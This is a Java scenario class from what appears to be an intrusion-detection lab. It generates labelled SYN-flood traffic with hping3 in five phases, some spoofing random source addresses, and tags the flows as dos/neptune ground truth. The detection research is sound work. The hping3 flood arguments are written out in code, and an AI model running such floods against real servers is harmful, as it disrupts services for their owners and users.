package gatewatch.sensor.lab.scenario.attack;

import gatewatch.features.truth.FlowPattern;
import gatewatch.features.truth.PortRange;
import gatewatch.features.truth.Proto;
import gatewatch.features.truth.TruthCategory;
import gatewatch.sensor.lab.net.Topology;
import gatewatch.sensor.lab.scenario.LabRun;
import gatewatch.sensor.lab.scenario.Scenario;
import gatewatch.sensor.lab.scenario.Tool;
import gatewatch.sensor.lab.scenario.Tools;
import gatewatch.sensor.lab.service.WebServer;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * SYN floods with hping3 against the server, in five phases, each from its own source so that
 * the truth tells them apart; all labelled dos/neptune (KDD's SYN flood):
 * <ol>
 * <li>{@code open-fixed-sport}: to nginx's open port 80 from one real client address and one
 *     fixed source port (hping3 -k): the client's kernel answers each SYN-ACK with RST;</li>
 * <li>{@code open-inc-sport}: the same with a new source port per SYN (hping3's default);</li>
 * <li>{@code closed-port}: to closed port {@value #CLOSED_PORT}, answered by RSTs;</li>
 * <li>{@code spoofed-random}: random spoofed sources (hping3 --rand-source) to open port 443:
 *     the SYN-ACKs go to addresses nobody owns, the gateway routes them to the client side (the
 *     internet), so they cross the capture and belong to the same connections; the server
 *     retransmits them until the run ends;</li>
 * <li>{@code spoofed-sport-eq-dport}: random spoofed sources with source port = destination
 *     port = 80. Still neptune, not land: land needs the source address to be the destination's.</li>
 * </ol>
 * A few normal page fetches from {@link #NORMAL_ALIAS} before and after the flood are normal.
 */
public final class DosSynFlood implements Scenario {
    /** SYNs per phase: a short burst, enough to fill nginx's backlog (511). */
    public static final int PACKETS = 3000;
    /** Microseconds between SYNs (hping3 -i uN): about 3,300 a second. */
    public static final int INTERVAL_MICROS = 300;
    public static final int CLOSED_PORT = 8081;
    public static final int FIXED_SOURCE_PORT = 5150;
    static final int NORMAL_ALIAS = 49;

    /** One phase: its name, hping3's arguments and the connections it makes. */
    record Phase(String name, List<String> hpingArgs, FlowPattern flow) {
    }

    @Override
    public String name() {
        return "dos-syn-flood";
    }

    @Override
    public String summary() {
        return "dos/neptune: hping3 SYN floods on open and closed ports, fixed and changing source ports, spoofed sources, sport = dport";
    }

    @Override
    public List<Tool> tools() {
        List<Tool> t = new ArrayList<>(WebServer.TOOLS);
        t.addAll(List.of(AttackTools.HPING3, Tools.CURL));
        return t;
    }

    /** The phases against {@code net}, in order. */
    static List<Phase> phases(Topology net) {
        String server = net.server();
        String a0 = net.clientAlias(20);
        String a1 = net.clientAlias(21);
        String a2 = net.clientAlias(22);
        List<String> common = List.of("-q", "-S", "-c", Integer.toString(PACKETS), "-i", "u" + INTERVAL_MICROS);
        return List.of(
                new Phase("open-fixed-sport", Hping.args(common, "-a", a0, "-p", "80", "-s", Integer.toString(FIXED_SOURCE_PORT), "-k", server),
                        FlowPattern.of(Proto.TCP, a0, server).toPort(80)),
                new Phase("open-inc-sport", Hping.args(common, "-a", a1, "-p", "80", server),
                        FlowPattern.of(Proto.TCP, a1, server).toPort(80)),
                new Phase("closed-port", Hping.args(common, "-a", a2, "-p", Integer.toString(CLOSED_PORT), server),
                        FlowPattern.of(Proto.TCP, a2, server).toPort(CLOSED_PORT)),
                new Phase("spoofed-random", Hping.args(common, "--rand-source", "-p", "443", server),
                        FlowPattern.of(Proto.TCP, "*", server).toPort(443)),
                new Phase("spoofed-sport-eq-dport", Hping.args(common, "--rand-source", "-p", "80", "-s", "80", "-k", server),
                        FlowPattern.of(Proto.TCP, "*", server).toPort(80).fromPorts(PortRange.of(80))));
    }

    @Override
    public void run(LabRun lab) throws Exception {
        WebServer.start(lab);
        String normal = lab.net().clientAlias(NORMAL_ALIAS);
        lab.label(FlowPattern.of(Proto.TCP, normal, lab.net().server()), TruthCategory.NORMAL, "normal");
        for (Phase p : phases(lab.net())) {
            lab.label(p.flow(), TruthCategory.DOS, "neptune");
        }
        fetch(lab, "before");
        for (Phase p : phases(lab.net())) {
            lab.pause(Duration.ofMillis(500), Duration.ofMillis(1500));
            lab.log("phase " + p.name());
            Hping.Stats s = Hping.run(lab, p.name(), Duration.ofSeconds(60), p.hpingArgs());
            lab.report(p.name() + "_sent", s.transmitted());
            lab.report(p.name() + "_answered", s.received());
        }
        lab.pause(Duration.ofSeconds(1), Duration.ofSeconds(2));
        fetch(lab, "after");
    }

    private static void fetch(LabRun lab, String name) {
        lab.client("curl-" + name, Duration.ofSeconds(30), List.of(lab.path(Tools.CURL), "-sS", "--interface",
                lab.net().clientAlias(NORMAL_ALIAS), "-o", "/dev/null", "-w", "%{response_code}\\n",
                WebServer.url(lab, false) + "/", "-o", "/dev/null", WebServer.url(lab, false) + "/page1.html")).requireOk();
    }
}
